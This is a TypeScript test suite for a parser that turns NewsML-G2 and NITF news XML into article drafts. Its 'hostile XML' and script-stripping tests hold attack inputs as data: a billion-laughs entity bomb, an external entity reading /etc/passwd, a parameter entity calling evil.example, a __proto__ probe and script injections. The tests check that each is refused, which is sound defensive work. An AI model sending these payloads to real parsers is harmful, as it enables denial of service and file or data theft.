import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readDraft } from '../../functions/ingest-article/read-draft.ts';
import { htmlOfBlocks } from '../../shared/domain/blocks.ts';
import { readArticleKey } from '../../shared/domain/upload.ts';

const now = new Date('2026-11-24T12:00:00Z');
const fixture = (name: string) => readFileSync(path.join(import.meta.dirname, '../fixtures/xml', name), 'utf8');

function read(text: string, name = 'articles/en/wire/a.xml') {
  const key = readArticleKey(name);
  if ('code' in key) throw new Error(key.message);
  return readDraft(new TextEncoder().encode(text), key, now);
}

type Parts = { meta?: string; management?: string; content?: string };

/** A news item in NewsML-G2; the parts stand on lines 3, 4 and 5. */
function aNewsItem({
  meta = '',
  management = '',
  content = '<inlineXML><html><body><p>Text.</p></body></html></inlineXML>',
}: Parts = {}) {
  return [
    '<?xml version="1.0"?>',
    '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">',
    `<itemMeta>${management}</itemMeta>`,
    `<contentMeta><headline>Tunnel opens</headline>${meta}</contentMeta>`,
    `<contentSet>${content}</contentSet>`,
    '</newsItem>',
  ].join('\n');
}

/** A story in NITF; docdata stands on line 2, the body’s content on line 4. */
function aNitf(content: string, docdata = '', head = '') {
  return [
    '<nitf>',
    `<head>${head}<docdata>${docdata}</docdata></head>`,
    '<body><body.head><hedline><hl1>Tunnel opens</hl1></hedline></body.head>',
    `<body.content>${content}</body.content></body>`,
    '</nitf>',
  ].join('\n');
}

const itemWith = (meta: string, management = '') => read(aNewsItem({ meta, management })).draft;
const itemText = (content: string) => read(aNewsItem({ content }));
const htmlOf = (text: string) => htmlOfBlocks(read(text).draft?.blocks ?? []);
const codesIn = (text: string) => read(text).problems.map(({ code }) => code);

describe('a message in NewsML-G2', () => {
  const { draft, problems } = read(fixture('newsml-g2-message.xml'));

  it('gives every field, in the language of the edition', () => {
    expect(problems).toEqual([]);
    expect(draft).toMatchObject({
      headline: 'Harbour tunnel opens after nine years',
      standfirst: 'The first cars crossed under the harbour on Tuesday, four years late and at twice the price.',
      byline: ['Ana Ruiz', 'Sam Lee'],
      source: 'Meridian News Agency',
      section: 'business',
      kind: 'analysis',
      importance: 'breaking',
      tags: ['Shipping', 'Lena Okafor', 'tunnel'],
      regions: ['africa'],
      embargoedUntil: '2026-11-24T18:30:00.000Z',
      expires: '2027-11-24T00:00:00.000Z',
    });
  });

  it('gives its picture as the lead image, in the size that suits a page', () => {
    expect(draft?.hero).toEqual({
      src: 'https://img.meridian.example/tunnel/opening-1600.jpg',
      alt: 'Three cars with their lights on drive out of a tunnel mouth',
      caption: 'The first cars leave the tunnel at Saltmarsh.',
      credit: 'Photo: Ife Marsh / Meridian',
    });
  });

  it('gives its XHTML as blocks, whatever its prefix, without what stands in fields', () => {
    expect(draft?.blocks.map(({ type }) => type)).toEqual([
      'paragraph',
      'subhead',
      'list',
      'quote',
      'image',
      'paragraph',
    ]);
    expect(htmlOfBlocks(draft?.blocks.slice(0, 1) ?? [])).toBe(
      '<p>PORT ALDER (Meridian) – The first cars crossed under the harbour on <em>Tuesday</em>, a day that the city had ' +
        '<a href="https://www.meridian.example/tunnel?from=wire&amp;page=2">waited for</a> since 2017.</p>',
    );
  });

  it('keeps from readers what is for editors', () => {
    expect(JSON.stringify(draft)).not.toMatch(/Eds:|555 0100|subscribers|2nd lead|ruiz\.a/);
  });

  it('with two stories is refused where the second begins', () => {
    const story = aNewsItem().split('\n').slice(1).join('\n');
    const message = `<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><itemSet>\n${story}\n${story}\n</itemSet></newsMessage>`;
    expect(read(message).problems).toMatchObject([
      { code: 'xml-shape', advice: 'File one story per file.', place: { line: 7, column: 1 } },
    ]);
  });
});

describe('an item of NewsML-G2 with a story in NITF', () => {
  const { draft, problems } = read(fixture('newsml-g2-nitf.xml'), 'articles/es/economia/alquileres.xml');

  it('takes from the story what the item leaves out', () => {
    expect(problems).toEqual([]);
    expect(draft).toMatchObject({
      headline: 'Los alquileres bajan por primera vez en seis años',
      standfirst: 'La oferta crece en las ciudades medianas.',
      byline: ['Julia Ortega y Gasset'],
      source: 'Agencia Meseta',
      section: 'business',
      importance: 'minor',
      regions: ['latin-america'],
      translationOf: 'en-business-rents',
    });
    expect(draft?.blocks.map(({ type }) => type)).toEqual(['paragraph', 'subhead', 'paragraph']);
  });
});

describe('a story in NITF', () => {
  it('gives every field and its body', () => {
    const { draft, problems } = read(fixture('nitf-doctype.xml'));
    expect(problems).toMatchObject([{ code: 'image-src', severity: 'warning', place: { line: 49, column: 11 } }]);
    expect(draft).toMatchObject({
      headline: 'Saltmarsh win the cup on penalties',
      standfirst: 'Keeper saves three in a row',
      byline: ['Dana Whitlock'],
      source: 'Meridian Sport',
      section: 'sport',
      kind: 'feature',
      importance: 'major',
      tags: ['Football', 'Cup', 'Final', 'Penalty shootouts'],
      regions: ['europe'],
      embargoedUntil: '2026-11-22T17:00:00.000Z',
      expires: '2027-01-22T17:00:00.000Z',
    });
    expect(draft?.blocks[0]).toEqual({
      type: 'image',
      src: 'https://img.meridian.example/cup.jpg',
      alt: 'A goalkeeper dives to her left',
      caption: 'Ines Calder saves the last penalty.',
      credit: 'Photo: Ife Marsh',
    });
    const types = 'image paragraph subhead paragraph quote list paragraph table paragraph'.split(' ');
    expect(draft?.blocks.map(({ type }) => type)).toEqual(types);
    const html = htmlOfBlocks(draft?.blocks ?? []);
    expect(html).toContain(
      '<p>It was <em>the longest</em> final yet.<br>Read the <a href="https://www.meridian.example/cup">',
    );
    expect(html).toMatch(/<p>Tom Reyes contributed to this report\.<\/p>$/);
    expect(JSON.stringify(draft)).not.toMatch(/Not for publication|Editors:|Match sheets|For print only|Trimmed/);
  });

  it('may be in Arabic', () => {
    const { draft, problems } = read(fixture('nitf-arabic.xml'), 'articles/ar/world/port.xml');
    expect(problems).toEqual([]);
    expect(draft).toMatchObject({
      byline: ['ليلى حداد', 'كريم منصور'],
      tags: ['موانئ', 'تجارة'],
      regions: ['north-africa'],
      source: 'وكالة الشرق',
    });
    expect(draft?.blocks).toHaveLength(2);
  });

  it('in another language than the edition’s is refused', () => {
    expect(read(fixture('nitf-arabic.xml')).problems).toContainEqual(
      expect.objectContaining({ code: 'language-other', place: { line: 2, column: 1 } }),
    );
  });

  it('as plain text, as HTML in CDATA and as preformatted lines is read as well', () => {
    expect(htmlOf(aNitf('One\n\nTwo'))).toBe('<p>One</p>\n<p>Two</p>');
    expect(htmlOf(aNitf('<![CDATA[<p>One <b>two</b></p><script>x</script>]]>'))).toBe(
      '<p>One <strong>two</strong></p>',
    );
    expect(htmlOf(aNitf('<pre>Alder 2\n\nMarsh 1</pre>'))).toBe('<p>Alder 2</p>\n<p>Marsh 1</p>');
    expect(htmlOf(aNitf('<p>A <![CDATA[<b>tag</b>]]></p>'))).toBe('<p>A &lt;b&gt;tag&lt;/b&gt;</p>');
  });

  it('keeps its headline as its text if there is no other', () => {
    expect(htmlOf(aNitf('<p>Tunnel opens</p>'))).toBe('<p>Tunnel opens</p>');
  });
});

describe('publishing status', () => {
  const ofItem = (management: string) => read(aNewsItem({ management })).notice?.status;
  const ofNitf = (status: string, dates = '') =>
    read(aNitf('<p>x</p>', dates).replace('<docdata>', `<docdata management-status="${status}">`));

  it.each([
    ['usable', undefined],
    ['withheld', 'withheld'],
    ['canceled', 'withdrawn'],
  ])('%s makes the notice %s in both standards', (status, notice) => {
    expect(ofItem(`<pubStatus qcode="stat:${status}"/>`)).toBe(notice);
    expect(ofItem(`<pubStatus uri="http://cv.iptc.org/newscodes/pubstatusg2/${status}"/>`)).toBe(notice);
    expect(ofNitf(status).notice?.status).toBe(notice);
  });

  it('that nobody knows is refused', () => {
    const management = '<pubStatus qcode="stat:draft"/>';
    expect(read(aNewsItem({ management })).problems).toMatchObject([
      { code: 'field-choice', field: 'status', place: { line: 3, column: 11 } },
      { code: 'section-assumed' },
    ]);
  });

  it('of a canceled item needs no text', () => {
    const management = '<pubStatus qcode="stat:canceled"/>';
    expect(read(aNewsItem({ management, content: '' })).notice).toEqual({ status: 'withdrawn' });
  });

  it('is withheld for an embargo whose end nobody says', () => {
    expect(ofItem('<embargoed/><pubStatus qcode="stat:usable"/>')).toBe('withheld');
    expect(ofNitf('embargoed').notice?.status).toBe('withheld');
    const { draft } = ofNitf('embargoed', '<date.release norm="20261125T060000Z"/>');
    expect(draft?.embargoedUntil).toBe('2026-11-25T06:00:00.000Z');
  });

  it('has times with a zone, or the file is refused', () => {
    const { problems } = read(aNitf('<p>x</p>', '<date.release norm="20261125T060000"/>'));
    expect(problems[0]).toMatchObject({ code: 'field-time', field: 'embargoed-until', words: '20261125T060000' });
    expect(problems[0]?.place).toEqual({ line: 2, column: 16 });
  });
});

describe('the fields of an agency', () => {
  it.each([
    ['By Ana Ruiz and Sam Lee', ['Ana Ruiz', 'Sam Lee']],
    ['By ANA RUIZ, SAM LEE and KIM ODA', ['ANA RUIZ', 'SAM LEE', 'KIM ODA']],
    ['Por Luis Vega y Ana Ruiz', ['Luis Vega', 'Ana Ruiz']],
    ['José Ortega y Gasset', ['José Ortega y Gasset']],
    ['By Ana Ruiz, Chief Correspondent', ['Ana Ruiz']],
    ['Ana Ruiz, AFP', ['Ana Ruiz']],
    ['Ana Ruiz / Sam Lee', ['Ana Ruiz', 'Sam Lee']],
    ['By Ana Ruiz (ana@wire.example)', ['Ana Ruiz']],
    ['gr/bp', []],
  ])('byline “%s” names %j', (by, names) => {
    expect(itemWith(`<by>${by}</by>`)?.byline).toEqual(names);
  });

  it('name creators where there is no byline, but neither accounts nor the agency', () => {
    const creators = ['ruiz.a', 'Wire House', 'Ana Ruiz'].map((name) => `<creator><name>${name}</name></creator>`);
    const source = '<infoSource><name>Wire House</name></infoSource>';
    expect(itemWith(creators.join('') + source)).toMatchObject({ byline: ['Ana Ruiz'], source: 'Wire House' });
  });

  it.each([
    ['1', 'breaking'],
    ['2', 'major'],
    ['5', 'major'],
    ['6', 'minor'],
    ['9', 'minor'],
    ['urgent', 'major'],
  ])('urgency %s is %s', (urgency, importance) => {
    expect(itemWith(`<urgency>${urgency}</urgency>`)?.importance).toBe(importance);
    expect(read(aNitf('<p>x</p>', `<urgency ed-urg="${urgency}"/>`)).draft?.importance).toBe(importance);
  });

  it.each([
    ['<subject qcode="medtop:15000000"/>', 'sport'],
    ['<subject qcode="subj:13004000"/>', 'science'],
    ['<subject uri="http://cv.iptc.org/newscodes/mediatopic/07000000"/>', 'health'],
    ['<subject qcode="medtop:20000350"><broader qcode="medtop:04000000"/></subject>', 'business'],
    ['<subject qcode="desk:3"><name>Culture</name></subject>', 'culture'],
    ['<subject qcode="medtop:20000350"/>', 'world'],
    ['<subject qcode="city:15000000"/>', 'world'],
  ])('subject %s leads to %s', (subject, section) => {
    expect(itemWith(subject)?.section).toBe(section);
  });

  it.each([
    ['<genre qcode="genre:Opinion"/>', 'opinion'],
    ['<genre><name>Q&amp;A</name></genre>', 'news'],
    ['<genre qcode="agency:7"><name>Special Report</name></genre>', 'feature'],
    ['<genre qcode="genre:Current"/>', 'news'],
  ])('genre %s is %s', (genre, kind) => {
    expect(itemWith(genre)?.kind).toBe(kind);
  });

  it('that are too long are left out, with a warning', () => {
    const { draft, problems } = read(aNewsItem({ meta: `<description>${'word '.repeat(300)}</description>` }));
    expect(draft?.standfirst).toBeUndefined();
    expect(problems).toMatchObject([{ code: 'field-length', severity: 'warning', place: { line: 4 } }, {}]);
  });

  it('take no picture that is not https or that nothing describes', () => {
    const described = '<description role="drol:caption">A tunnel</description>';
    expect(itemWith('<icon href="https://img.example.org/a.jpg"/>')?.hero).toBeUndefined();
    expect(itemWith(`<icon href="http://img.example.org/a.jpg"/>${described}`)?.hero).toBeUndefined();
    expect(itemWith(`<icon href="https://img.example.org/a.jpg"/>${described}`)?.hero?.alt).toBe('A tunnel');
  });
});

describe('the text of an item', () => {
  it('may be plain or HTML in inlineData', () => {
    expect(
      htmlOfBlocks(
        itemText('<inlineData contenttype="text/plain">One\n\nTwo &amp; three</inlineData>').draft?.blocks ?? [],
      ),
    ).toBe('<p>One</p>\n<p>Two &amp; three</p>');
    const { draft, problems } = itemText(
      '<inlineData contenttype="text/html"><![CDATA[<p>One</p>\n <object></object>]]></inlineData>',
    );
    expect(htmlOfBlocks(draft?.blocks ?? [])).toBe('<p>One</p>');
    expect(problems).toMatchObject([
      { code: 'section-assumed' },
      { code: 'html-dropped', place: { line: 6, column: 2 } },
    ]);
  });

  it('is that in the language of the edition', () => {
    const of = (lang: string, text: string) =>
      `<inlineXML xml:lang="${lang}"><html><body><p>${text}</p></body></html></inlineXML>`;
    expect(htmlOfBlocks(itemText(of('es', 'Uno') + of('en-US', 'One')).draft?.blocks ?? [])).toBe('<p>One</p>');
  });

  it('holds no script, however it is prefixed', () => {
    const body =
      '<x:body xmlns:x="http://www.w3.org/1999/xhtml" onload="x()"><x:p onclick="x()">A<x:script>alert(1)</x:script></x:p><y:script xmlns:y="urn:y">b()</y:script><x:a href="java&#10;script:x()">c</x:a></x:body>';
    const { draft, problems } = itemText(`<inlineXML>${body}</inlineXML>`);
    expect(htmlOfBlocks(draft?.blocks ?? [])).toBe('<p>A</p>\n<p>c</p>');
    expect(problems.map(({ code }) => code)).toEqual(['section-assumed', 'html-dropped', 'link-unsafe']);
  });

  it('keeps a figure without a description out, with its caption', () => {
    const { draft, problems } = itemText(
      '<inlineXML><body><p>A</p><figure><img src="https://img.example.org/a.jpg"/></figure><img src="images/ours.jpg" alt="x"/></body></inlineXML>',
    );
    expect(draft?.blocks).toHaveLength(1);
    expect(problems.map(({ code, severity }) => [code, severity])).toEqual([
      ['section-assumed', 'warning'],
      ['image-alt', 'warning'],
      ['image-src', 'warning'],
    ]);
  });

  it('that is a picture’s caption makes no article', () => {
    const { problems } = read(aNewsItem({ management: '<itemClass qcode="ninat:picture"/>' }));
    expect(problems).toMatchObject([{ code: 'xml-shape', place: { line: 2, column: 1 } }]);
    expect(problems[0]?.message).toContain('“picture”');
  });
});

describe('other XML', () => {
  it.each([
    ['<html xmlns="http://www.w3.org/1999/xhtml"/>', 'rename it to end in .html'],
    ['<NewsML/>', 'NewsML 1'],
    ['<rss/>', 'feed'],
    ['<packageItem xmlns="http://iptc.org/std/nar/2006-10-01/"/>', 'package'],
    ['<newsItem/>', 'xmlns="http://iptc.org/std/nar/2006-10-01/"'],
    ['<constructor/>', 'newsItem'],
    ['<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"/>', 'news item'],
  ])('%s is refused with what to do', (text, advice) => {
    const { problems } = read(text);
    expect(problems).toMatchObject([{ code: 'xml-shape', place: { line: 1, column: 1 } }]);
    expect(problems[0]?.advice).toContain(advice);
  });
});

describe('XML that is not well-formed', () => {
  it.each([
    ['<nitf>\n <p>one</nitf>', 2, 8, '</p>'],
    ['<nitf>\n <p>one', 2, 2, 'never closed'],
    ['<nitf>\n R&D </nitf>', 2, 3, '“&” stands alone'],
    ['<nitf>\n <a href="x?a=1&b=2;"/></nitf>', 2, 16, '“&” stands alone'],
    ['<nitf>\r\n a&nbsp;b</nitf>', 2, 3, '“&nbsp;” is not known'],
    ['<nitf>&constructor;</nitf>', 1, 7, '“&constructor;”'],
    ['<nitf>\n<![CDATA[ R&D </nitf>', 2, 1, '“<![CDATA[” is never closed'],
    ['<nitf>😀\u0001</nitf>', 1, 9, 'U+0001'],
    ['<nitf>\n <a b="<"/></nitf>', 2, 8, 'quotation mark'],
    ['<nitf>\n <x:p/></nitf>', 2, 2, '"x"'],
    ['<nitf/>\n<nitf/>', 2, 1, 'one root'],
    ['', 1, 1, 'no element'],
  ])('%j is refused at line %i, column %i', (text, line, column, said) => {
    const { problems } = read(text);
    expect(problems).toMatchObject([{ code: 'xml', severity: 'error', place: { line, column } }]);
    expect(problems[0]?.message).toContain(said);
  });

  it('is told once, however much is wrong', () => {
    expect(codesIn('<'.repeat(10_000))).toEqual(['xml']);
  });
});

describe('an encoding other than UTF-8', () => {
  it('is refused where it is declared', () => {
    const text = '<?xml version="1.0"\n encoding="ISO-8859-1"?><nitf>é</nitf>';
    expect(read(text).problems).toMatchObject([
      { code: 'encoding', words: 'ISO-8859-1', place: { line: 2, column: 12 } },
    ]);
  });

  it('does no harm to a file in ASCII', () => {
    expect(read(`<?xml version="1.0" encoding="ISO-8859-1"?>${aNitf('<p>x</p>')}`).draft?.headline).toBe(
      'Tunnel opens',
    );
  });
});

describe('hostile XML', () => {
  const laughs = [
    '<!ENTITY a "ha">',
    ...'bcdefghi'.split('').map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`),
  ];

  it.each([
    ['a billion laughs', `<!DOCTYPE nitf [\n${laughs.join('\n')}\n]>\n<nitf>&i;</nitf>`],
    ['an external entity', '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf>&x;</nitf>'],
    ['a parameter entity', '<!DOCTYPE nitf SYSTEM "a.dtd" [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><nitf/>'],
    ['an attribute list', '<!DOCTYPE nitf [<!ATTLIST p onclick CDATA "x()">]><nitf><p/></nitf>'],
  ])('with %s is refused at its DOCTYPE', (_name, text) => {
    expect(read(text).problems).toMatchObject([{ code: 'xml-dtd', place: { line: 1, column: 1 } }]);
  });

  it('that names its DTD loads nothing and knows none of its entities', () => {
    expect(codesIn(`<!DOCTYPE nitf SYSTEM "http://127.0.0.1:1/[x].dtd">${aNitf('<p>x</p>')}`)).toEqual([
      'section-assumed',
    ]);
    expect(codesIn(`<!DOCTYPE nitf SYSTEM "http://127.0.0.1:1/x.dtd">${aNitf('<p>&eacute;</p>')}`)).toEqual(['xml']);
  });

  it('of 100,000 levels is refused where it is too deep', () => {
    expect(read('<a>\n'.repeat(100_000)).problems).toMatchObject([
      { code: 'xml-too-deep', place: { line: 129, column: 1 } },
    ]);
  });

  it('of 128 levels is read', () => {
    const text = aNitf(`${'<em>'.repeat(125)}deep${'</em>'.repeat(125)}`);
    expect(htmlOf(text)).toBe('<p><em>deep</em></p>');
  });

  it('of a megabyte of attributes is answered', () => {
    let attributes = '';
    for (let index = 0; attributes.length < 1_000_000; index++) attributes += ` a${index}="${index}"`;
    expect(
      read(`<nitf><head/><body${attributes}><body.content><p>x</p></body.content></body></nitf>`).problems,
    ).toMatchObject([{ code: 'field-missing', field: 'headline' }, { code: 'section-assumed' }]);
  });

  it('with thousands of pictures is told of no more than some', () => {
    const media = '<media media-type="image"><media-reference source="a.jpg"/></media>';
    expect(codesIn(aNitf(`<p>x</p>${media.repeat(5_000)}`)).filter((code) => code === 'image-src')).toHaveLength(20);
  });

  it('never makes an own property of a name like __proto__', () => {
    const text = aNitf('<__proto__ constructor="x" __proto__="y" hidden="">a</__proto__><p toString="z">b</p>');
    expect(htmlOf(text)).toBe('<p>b</p>');
  });
});

describe('any text', () => {
  const words = fc.constantFrom(
    ...[
      '<nitf>',
      '</nitf>',
      '<body>',
      '<body.content>',
      '<p>',
      '</p>',
      '<p/>',
      '<media media-type="image">',
      '<bq>',
      '<table>',
    ],
    ...[
      '<tr>',
      '<td>',
      '&amp;',
      '&x;',
      '&',
      '<',
      '>',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<!DOCTYPE nitf [',
      ']>',
      '\r\n',
      '\u2028',
    ],
    ...[
      '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">',
      '<contentSet>',
      '<inlineXML>',
      '<inlineData>',
      '<html>',
      '<img/>',
    ],
    ...['<?xml version="1.1" encoding="UTF-8"?>', ' a="b"', ' xmlns:a="b"', '<a:b', '/>', 'text', 'نص', '😀'],
  );
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(words, { maxLength: 40 }).map((parts) => parts.join('')),
  );

  it('is answered, with places within the file', () => {
    fc.assert(
      fc.property(text, (written) => {
        const { draft, notice, problems } = read(written);
        expect(draft !== undefined || notice !== undefined || problems.length > 0).toBe(true);
        const lines = written.toWellFormed().split(/\r\n?|\n/);
        for (const { place } of problems) {
          expect(place.column).toBeGreaterThan(0);
          expect(place.column).toBeLessThanOrEqual((lines[place.line - 1]?.length ?? -1) + 1);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('in a body is words and nothing else', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (written) => {
        const escaped = written
          .replace(/[&<>]/g, (sign) => `&#${sign.charCodeAt(0)};`)
          .replace(/[^\t\n\r -\ud7ff\ue000-\ufffd]/g, '');
        expect(htmlOf(aNitf(`<p>${escaped}</p><p>end</p>`))).not.toMatch(/<(?!\/?p>|br>)/);
      }),
    );
  });
});
